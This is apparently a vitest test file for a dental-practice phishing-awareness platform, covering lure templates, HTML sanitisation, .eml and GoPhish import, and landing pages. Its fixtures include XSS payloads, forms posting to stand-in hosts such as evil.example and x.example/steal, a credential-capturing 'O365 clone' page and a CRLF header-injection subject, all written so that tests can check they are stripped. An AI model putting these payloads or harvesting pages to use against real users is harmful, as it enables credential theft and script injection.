import type { FastifyInstance } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  listBuiltinTemplates,
  renderLandingPage,
  renderTemplate,
  resolveLandingPage,
  resolveTemplates,
  templateCategories,
} from '../../src/modules/phishing/templates/index.ts';
import { unknownVariables } from '../../src/modules/phishing/templates/render.ts';
import { sanitizeTemplateHtml } from '../../src/modules/phishing/templates/sanitize.ts';
import { buildDso, buildPerson, testDeps } from '../factories/org.ts';
import { createTestApp } from '../harness/app.ts';
import { type AuthHeaders, authAs } from '../harness/auth.ts';
import { describeEachDialect } from '../harness/db.ts';

const allowed = { first_name: '', last_name: '', email: '', practice: '', link: '' };

describe('built-in lure library', () => {
  const library = listBuiltinTemplates();

  it('holds at least 12 lures covering every category and difficulty 1 to 5', () => {
    expect(library.length).toBeGreaterThanOrEqual(12);
    expect(new Set(library.map((t) => t.category))).toEqual(new Set(templateCategories));
    expect(new Set(library.map((t) => t.difficulty))).toEqual(new Set([1, 2, 3, 4, 5]));
    expect(new Set(library.map((t) => t.id)).size).toBe(library.length);
  });

  it('gives every lure a sender, a subject, a tracked link and 3 to 6 annotated red flags', () => {
    for (const template of library) {
      expect(template.id).toMatch(/^builtin:[a-z0-9-]+$/);
      expect(template.senderAddress).toMatch(/@[^@]*\.(example|test)$/);
      expect(template.subject.length).toBeGreaterThan(5);
      expect(template.html).toContain('{{link}}');
      expect(template.text).toContain('{{link}}');
      expect(template.redFlags.length).toBeGreaterThanOrEqual(3);
      expect(template.redFlags.length).toBeLessThanOrEqual(6);
      for (const flag of template.redFlags) expect(flag.explanation.length).toBeGreaterThan(30);
      for (const field of [template.subject, template.html, template.text, template.senderName]) {
        expect([template.id, unknownVariables(field, allowed)]).toEqual([template.id, []]);
      }
      // The library passes its own sanitiser: no link or script would be lost on the way out.
      expect(sanitizeTemplateHtml(template.html)).toContain('href="{{link}}"');
      expect(template.html).not.toMatch(/<script|onerror|javascript:/i);
    }
  });

  it('renders a lure with escaped values, the tracked link and the open pixel', () => {
    const template = library.find((t) => t.id === 'builtin:patient-intake-form-submitted');
    if (!template) throw new Error('missing lure');
    const rendered = renderTemplate(template, {
      firstName: '<b>Ann</b>',
      lastName: 'O"Neil',
      email: 'ann@smile.example',
      practiceName: 'Smile & Co Dental',
      clickUrl: 'https://t.example/l/abc?x=1&y=2',
      pixelUrl: 'https://t.example/o/abc.gif',
    });
    expect(rendered.html).toContain('Smile &amp; Co Dental');
    expect(rendered.html).not.toContain('Smile & Co');
    expect(rendered.html).toContain("href='https://t.example/l/abc?x=1&amp;y=2'");
    expect(rendered.html).toMatch(/<img src="https:\/\/t\.example\/o\/abc\.gif"[^>]*><\/body>/);
    expect(rendered.html).not.toContain('{{');
    expect(rendered.text).toContain('Smile & Co Dental');
    expect(rendered.text).toContain('https://t.example/l/abc?x=1&y=2');
    expect(rendered.senderName).toBe('Smile & Co Dental Online Forms');
    expect(rendered.senderAddress).toBe('forms@smilecodental-patientforms.example');

    const escaped = renderTemplate(
      { ...template, html: '<p>Hi {{first_name}}</p>', subject: 'For {{first_name}}\r\nBcc: x' },
      {
        firstName: '<script>alert(1)</script>',
        lastName: '',
        email: '',
        practiceName: '',
        clickUrl: '',
        pixelUrl: 'https://t.example/o/p.gif',
      },
    );
    expect(escaped.html).toContain('Hi &lt;script&gt;alert(1)&lt;/script&gt;');
    expect(
      escaped.html.endsWith(
        '<img src="https://t.example/o/p.gif" width="1" height="1" alt="" style="display:block;width:1px;height:1px;border:0" />',
      ),
    ).toBe(true);
    expect(escaped.subject).not.toMatch(/[\r\n]/);
  });
});

describeEachDialect('phishing templates and landing pages API', (get) => {
  let app: FastifyInstance;
  let dsoId: string;
  let otherDso: string;
  let admin: AuthHeaders;
  let auditor: AuthHeaders;

  const api = (
    method: 'GET' | 'POST' | 'PATCH' | 'DELETE',
    url: string,
    headers: AuthHeaders,
    payload?: object,
  ) => app.inject({ method, url: `/api/v1${url}`, headers, ...(payload ? { payload } : {}) });

  const custom = {
    name: 'Front desk: insurance card photo',
    category: 'patient-intake',
    difficulty: 3,
    senderName: '{{practice}} Scheduling',
    senderAddress: 'scheduling@{{practice}}-booking.example',
    subject: 'Can you check my insurance card, {{first_name}}?',
    html:
      '<table style="width:100%"><tr><td style="color:#333">Hi {{first_name}}, <a href="{{link}}" onclick="steal()">my card</a>' +
      '<img src="https://img.example/x.png" onerror="alert(1)"><a href="javascript:alert(1)">x</a>' +
      '<script>alert(1)</script><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="p"></form>' +
      '</td></tr></table>',
    redFlags: [{ label: 'Unexpected attachment link', explanation: 'Patients bring cards to the desk.' }],
  };

  beforeAll(async () => {
    app = (await createTestApp(get().handle)).app;
    const deps = testDeps(get().handle);
    dsoId = (await buildDso(deps, { name: 'Bayside Dental Partners' })).id;
    otherDso = (await buildDso(deps, { name: 'Other Dental Group' })).id;
    admin = await authAs(get().handle, dsoId);
    auditor = await authAs(get().handle, dsoId, 'auditor');
  });

  it('lists built-ins with filters and reads one by its built-in id', async () => {
    const all = await api('GET', '/phishing/templates', auditor);
    expect(all.statusCode).toBe(200);
    expect(all.json().items.length).toBe(listBuiltinTemplates().length);
    const payer = await api('GET', '/phishing/templates?category=payer&difficulty=4', auditor);
    expect(payer.json().items.map((t: { id: string }) => t.id)).toEqual([
      'builtin:payer-credentialing-reverification',
    ]);
    const bad = await api('GET', '/phishing/templates?difficulty=9', auditor);
    expect(bad.statusCode).toBe(400);

    const one = await api('GET', '/phishing/templates/builtin:it-mailbox-quota', auditor);
    expect(one.statusCode).toBe(200);
    expect(one.json()).toMatchObject({ builtin: true, source: 'builtin', difficulty: 1, category: 'it' });
    expect(one.json().redFlags.length).toBeGreaterThanOrEqual(3);
    expect((await api('GET', '/phishing/templates/builtin:nope', auditor)).statusCode).toBe(404);
  });

  it('creates a custom template with sanitised HTML, then updates and deletes it', async () => {
    const created = await api('POST', '/phishing/templates', admin, custom);
    expect(created.statusCode).toBe(201);
    const view = created.json();
    expect(view).toMatchObject({ builtin: false, source: 'custom', redFlagCount: 1 });
    for (const bad of ['<script', 'onclick', 'onerror', 'javascript:', '<iframe', '<form', 'name="p"']) {
      expect([bad, view.html.includes(bad)]).toEqual([bad, false]);
    }
    expect(view.html).toContain('href="{{link}}"');
    expect(view.html).toContain('style="color:#333"');
    expect(view.html).toContain('<img src="https://img.example/x.png" />');
    expect(view.text).toContain('my card ({{link}})');

    const stored = await get()
      .handle.db.selectFrom('phishingTemplates')
      .select('html')
      .where('id', '=', view.id)
      .executeTakeFirstOrThrow();
    expect(stored.html).toBe(view.html);

    const listed = await api('GET', '/phishing/templates?category=patient-intake', auditor);
    expect(listed.json().items.map((t: { id: string }) => t.id)).toContain(view.id);

    const patched = await api('PATCH', `/phishing/templates/${view.id}`, admin, {
      difficulty: 5,
      html: '<p>{{practice}} <a href="{{link}}">here</a></p>',
    });
    expect(patched.statusCode).toBe(200);
    expect(patched.json()).toMatchObject({ difficulty: 5, name: custom.name });
    expect(
      (await api('PATCH', '/phishing/templates/builtin:it-mailbox-quota', admin, { difficulty: 2 }))
        .statusCode,
    ).toBe(409);

    // Another DSO's admin does not see or reach it.
    const stranger = await authAs(get().handle, otherDso);
    expect((await api('GET', `/phishing/templates/${view.id}`, stranger)).statusCode).toBe(404);
    expect((await api('DELETE', `/phishing/templates/${view.id}`, stranger)).statusCode).toBe(404);

    expect((await api('DELETE', `/phishing/templates/${view.id}`, admin)).statusCode).toBe(204);
    expect((await api('GET', `/phishing/templates/${view.id}`, admin)).statusCode).toBe(404);
  });

  it('refuses an unknown variable, naming it and the field', async () => {
    const response = await api('POST', '/phishing/templates', admin, {
      ...custom,
      html: '<p>Dear {{ firstname }}, <a href="{{link}}">x</a></p>',
      senderAddress: 'x@{{domain}}.example',
    });
    expect(response.statusCode).toBe(400);
    const error = response.json().error;
    expect(error.code).toBe('VALIDATION_FAILED');
    expect(error.issues).toEqual([
      expect.objectContaining({
        path: ['body', 'senderAddress'],
        code: 'unknown_variable',
        message: expect.stringContaining('{{domain}}'),
      }),
      expect.objectContaining({
        path: ['body', 'html'],
        code: 'unknown_variable',
        message: expect.stringContaining('{{firstname}}'),
      }),
    ]);
    const missing = await api('POST', '/phishing/templates', admin, { ...custom, difficulty: 6, name: '' });
    expect(missing.statusCode).toBe(400);
    const paths = missing.json().error.issues.map((i: { path: string[] }) => i.path.join('.'));
    expect(paths).toEqual(expect.arrayContaining(['body.difficulty', 'body.name']));
  });

  it('resolves built-in and own templates for this DSO only', async () => {
    const own = (await api('POST', '/phishing/templates', admin, custom)).json();
    const strangerOwn = (
      await api('POST', '/phishing/templates', await authAs(get().handle, otherDso), custom)
    ).json();
    const resolved = await resolveTemplates(get().handle.db, dsoId, [
      'builtin:vendor-lab-case-delayed',
      own.id,
      strangerOwn.id,
      'builtin:missing',
      own.id,
    ]);
    expect([...resolved.keys()].sort()).toEqual(['builtin:vendor-lab-case-delayed', own.id].sort());
    expect(resolved.get(own.id)).toMatchObject({
      senderName: '{{practice}} Scheduling',
      redFlags: custom.redFlags,
    });
    expect(resolved.get('builtin:vendor-lab-case-delayed')?.redFlags.length).toBe(5);
  });

  it('imports a raw .eml as a draft with every link replaced by the tracked link', async () => {
    const eml = [
      'From: "Delta Claims Desk" <claims@delta-claims-desk.example>',
      'To: Front Desk <frontdesk@bayside.example>',
      'Subject: =?UTF-8?Q?Claim_denied_=E2=80=93_action_needed?=',
      'MIME-Version: 1.0',
      'Content-Type: multipart/alternative; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'Hello frontdesk@bayside.example, see https://evil.example/login?id=1 now. {{weird}}',
      '--b1',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<html><body><p onclick="x()">Hello frontdesk@bayside.example</p><a href="https://evil.example/login?id=1">Review claim</a> <a href="mailto:a@b.example">mail</a><script>alert(1)</script> {{weird}}</body></html>',
      '--b1--',
      '',
    ].join('\r\n');
    const response = await app.inject({
      method: 'POST',
      url: '/api/v1/phishing/templates/import-eml?category=payer&difficulty=4',
      headers: { ...admin, 'content-type': 'message/rfc822' },
      payload: eml,
    });
    expect([response.statusCode, response.body]).toEqual([201, expect.any(String)]);
    const draft = response.json();
    expect(draft).toMatchObject({
      source: 'eml',
      category: 'payer',
      difficulty: 4,
      subject: 'Claim denied – action needed',
      name: 'Imported: Claim denied – action needed',
      senderName: 'Delta Claims Desk',
      senderAddress: 'claims@delta-claims-desk.example',
      redFlags: [],
    });
    expect(draft.html).not.toContain('evil.example');
    expect(draft.html).not.toContain('<script');
    expect(draft.html).not.toContain('onclick');
    expect(draft.html.match(/href="\{\{link\}\}"/g)).toHaveLength(2);
    expect(draft.html).toContain('Hello {{email}}');
    expect(draft.text).toBe('Hello {{email}}, see {{link}} now. { {weird} }');

    const wrongType = await app.inject({
      method: 'POST',
      url: '/api/v1/phishing/templates/import-eml',
      headers: { ...admin, 'content-type': 'application/pdf' },
      payload: Buffer.from('%PDF-1.4'),
    });
    expect(wrongType.statusCode).toBe(415);
    const tooLarge = await app.inject({
      method: 'POST',
      url: '/api/v1/phishing/templates/import-eml',
      headers: { ...admin, 'content-type': 'message/rfc822' },
      payload: Buffer.alloc(5 * 1024 * 1024 + 10, 97),
    });
    expect(tooLarge.statusCode).toBe(413);
  });

  it('imports GoPhish templates, pages and groups with mapped variables, all or nothing', async () => {
    await buildPerson(testDeps(get().handle), dsoId, {
      email: 'maria.lopez@bayside.example',
      firstName: 'Maria',
      lastName: 'Lopez',
    });
    const exported = {
      templates: [
        {
          id: 4,
          name: 'Password reset',
          envelope_sender: '"IT Support" <it@bayside-support.example>',
          subject: 'Reset for {{.FirstName}}',
          html: '<html><body><p>Hi {{.FirstName}} {{.LastName}} ({{.Email}})</p><a href="{{.URL}}">Reset</a>{{.Tracker}}</body></html>',
          text: 'Hi {{.FirstName}}, go to {{.URL}}',
          attachments: [{ name: 'a.txt', type: 'text/plain', content: 'eA==' }],
          modified_date: '2024-01-01T00:00:00Z',
        },
      ],
      pages: [
        {
          id: 2,
          name: 'O365 clone',
          html: '<html><body><form action="https://collect.example" method="post"><input name="username"><input type="password" name="password"><input type="submit" value="Sign in"></form></body></html>',
          capture_credentials: true,
          capture_passwords: true,
          redirect_url: 'https://www.example.com/',
        },
      ],
      groups: [
        {
          id: 1,
          name: 'Front desks',
          targets: [
            {
              email: 'Maria.Lopez@bayside.example',
              first_name: 'Maria',
              last_name: 'Lopez',
              position: 'Front desk',
            },
            {
              email: 'new.hire@bayside.example',
              first_name: 'New',
              last_name: 'Hire',
              position: 'Assistant',
            },
          ],
        },
      ],
    };
    const response = await api('POST', '/phishing/templates/import-gophish', admin, exported);
    expect(response.statusCode).toBe(200);
    const result = response.json();
    expect(result.templates).toHaveLength(1);
    expect(result.landingPages).toEqual([
      expect.objectContaining({ name: 'O365 clone', kind: 'credential' }),
    ]);
    expect(result.groups[0].matched).toEqual([
      expect.objectContaining({ email: 'maria.lopez@bayside.example', name: 'Maria Lopez' }),
    ]);
    expect(result.groups[0].unmatched).toEqual([
      { email: 'new.hire@bayside.example', firstName: 'New', lastName: 'Hire', position: 'Assistant' },
    ]);
    expect(result.warnings.map((w: { path: unknown[] }) => w.path.join('.'))).toEqual(
      expect.arrayContaining(['templates.0.attachments', 'pages.0.capture_passwords']),
    );

    const template = (await api('GET', `/phishing/templates/${result.templates[0].id}`, admin)).json();
    expect(template).toMatchObject({
      source: 'gophish',
      senderName: 'IT Support',
      senderAddress: 'it@bayside-support.example',
      subject: 'Reset for {{first_name}}',
      text: 'Hi {{first_name}}, go to {{link}}',
    });
    expect(template.html).toContain('Hi {{first_name}} {{last_name}} ({{email}})');
    expect(template.html).toContain('href="{{link}}"');
    expect(template.html).not.toContain('{{.');

    const page = (await api('GET', `/phishing/landing-pages/${result.landingPages[0].id}`, admin)).json();
    expect(page).toMatchObject({
      source: 'gophish',
      kind: 'credential',
      redirectUrl: 'https://www.example.com/',
    });
    expect(page.html).not.toMatch(/name="(username|password)"/);
    expect(page.html).toContain(
      '<form action="{{submit_url}}" method="post"><input type="hidden" name="enamel_submitted" value="1" />',
    );

    // A single bad item stops everything: nothing from this export is written.
    const before = await get()
      .handle.db.selectFrom('phishingTemplates')
      .select('id')
      .where('dsoId', '=', dsoId)
      .execute();
    const bad = await api('POST', '/phishing/templates/import-gophish', admin, [
      { name: 'Good', subject: 'Hello', html: '<p><a href="{{.URL}}">x</a></p>' },
      { name: 'Uses position', subject: 'Hi', html: '<p>{{.Position}}</p>' },
      { name: 'No targets list', targets: 'x' },
      { hello: 'world' },
    ]);
    expect(bad.statusCode).toBe(422);
    expect(bad.json().error.issues).toEqual([
      expect.objectContaining({
        path: [1, 'html'],
        code: 'unknown_variable',
        message: expect.stringContaining('{{.Position}}'),
      }),
      expect.objectContaining({ path: [2, 'targets'], code: 'invalid_type' }),
      expect.objectContaining({ path: [3], code: 'unknown_object' }),
    ]);
    const after = await get()
      .handle.db.selectFrom('phishingTemplates')
      .select('id')
      .where('dsoId', '=', dsoId)
      .execute();
    expect(after.length).toBe(before.length);
  });

  it('stores credential pages without field names and resolves the built-in teachable page', async () => {
    const created = await api('POST', '/phishing/landing-pages', admin, {
      name: 'Portal sign-in',
      kind: 'credential',
      html: '<div><h1>Sign in</h1><form action="https://x.example/steal" onsubmit="s()"><label>Email <input type="email" name="email" value="pre@x.example"></label><input type="password" name="pw"><select name="office"><option>1</option></select><textarea name="notes"></textarea><button type="submit" name="go">Go</button></form><script>1</script></div>',
      redirectUrl: 'https://www.example.com/thanks',
    });
    expect(created.statusCode).toBe(201);
    const page = created.json();
    expect(page.html.match(/name="/g)).toHaveLength(1);
    expect(page.html).toContain('name="enamel_submitted"');
    expect(page.html).not.toContain('pre@x.example');
    expect(page.html).not.toMatch(/onsubmit|<script|x\.example\/steal/);
    expect(page.html).toContain('action="{{submit_url}}"');

    // Saving again keeps a single marker.
    const patched = await api('PATCH', `/phishing/landing-pages/${page.id}`, admin, { html: page.html });
    expect(patched.json().html.match(/enamel_submitted/g)).toHaveLength(1);
    const noForm = await api('POST', '/phishing/landing-pages', admin, {
      name: 'x',
      kind: 'credential',
      html: '<p>hi</p>',
    });
    expect(noForm.statusCode).toBe(400);
    const unknown = await api('POST', '/phishing/landing-pages', admin, {
      name: 'x',
      kind: 'teachable',
      html: '<p>{{first_name}}</p>',
    });
    expect(unknown.json().error.issues[0]).toMatchObject({
      path: ['body', 'html'],
      code: 'unknown_variable',
    });

    const list = (await api('GET', '/phishing/landing-pages', auditor)).json().items;
    expect(list[0]).toMatchObject({ id: 'builtin:teachable', builtin: true, kind: 'teachable' });
    expect(list.map((p: { id: string }) => p.id)).toContain(page.id);
    expect((await api('DELETE', '/phishing/landing-pages/builtin:teachable', admin)).statusCode).toBe(409);

    const builtin = await resolveLandingPage(get().handle.db, dsoId, null);
    expect(builtin).toMatchObject({ id: 'builtin:teachable', kind: 'teachable', redirectUrl: null });
    expect(builtin?.html).toContain('{{red_flags}}');
    expect(builtin?.html).toContain('Report');
    const html = renderLandingPage(builtin as NonNullable<typeof builtin>, {
      redFlags: [{ label: 'Odd <sender>', explanation: 'Check "who" & why' }],
      submitUrl: 'https://t.example/l/tok',
    });
    expect(html).toContain(
      '<li><strong>Odd &lt;sender&gt;</strong><br />Check &quot;who&quot; &amp; why</li>',
    );
    expect(await resolveLandingPage(get().handle.db, otherDso, page.id)).toBeNull();
    expect(await resolveLandingPage(get().handle.db, dsoId, page.id)).toMatchObject({
      kind: 'credential',
      redirectUrl: 'https://www.example.com/thanks',
    });

    expect((await api('DELETE', `/phishing/landing-pages/${page.id}`, admin)).statusCode).toBe(204);
    expect(await resolveLandingPage(get().handle.db, dsoId, page.id)).toBeNull();
  });

  it('refuses to delete a template or page that a campaign uses', async () => {
    const template = (await api('POST', '/phishing/templates', admin, custom)).json();
    const page = (
      await api('POST', '/phishing/landing-pages', admin, {
        name: 'In use',
        kind: 'teachable',
        html: '<p>{{red_flags}}</p>',
      })
    ).json();
    const now = '2026-11-02T15:00:00.000Z';
    await get()
      .handle.db.insertInto('phishingCampaigns')
      .values({
        id: '01900000-0000-7000-8000-00000000c001',
        dsoId,
        name: 'Autumn front-desk test',
        status: 'draft',
        templateIds: JSON.stringify(['builtin:it-mailbox-quota', template.id]),
        landingPageId: page.id,
        sendingProfileId: null,
        audience: '{}',
        launchAt: now,
        sendBy: null,
        businessHours: '{}',
        recipients: 0,
        createdBy: 'test',
        createdAt: now,
        updatedAt: now,
        completedAt: null,
      })
      .execute();
    const refused = await api('DELETE', `/phishing/templates/${template.id}`, admin);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().error.message).toContain('Autumn front-desk test');
    expect((await api('DELETE', `/phishing/landing-pages/${page.id}`, admin)).statusCode).toBe(409);
    expect((await api('GET', `/phishing/templates/${template.id}`, admin)).statusCode).toBe(200);
  });

  it('lets a practice manager read the library but not change it', async () => {
    const manager = await authAs(get().handle, dsoId, 'practice_manager');
    expect((await api('GET', '/phishing/templates', manager)).statusCode).toBe(200);
    expect((await api('POST', '/phishing/templates', manager, custom)).statusCode).toBe(403);
  });
});
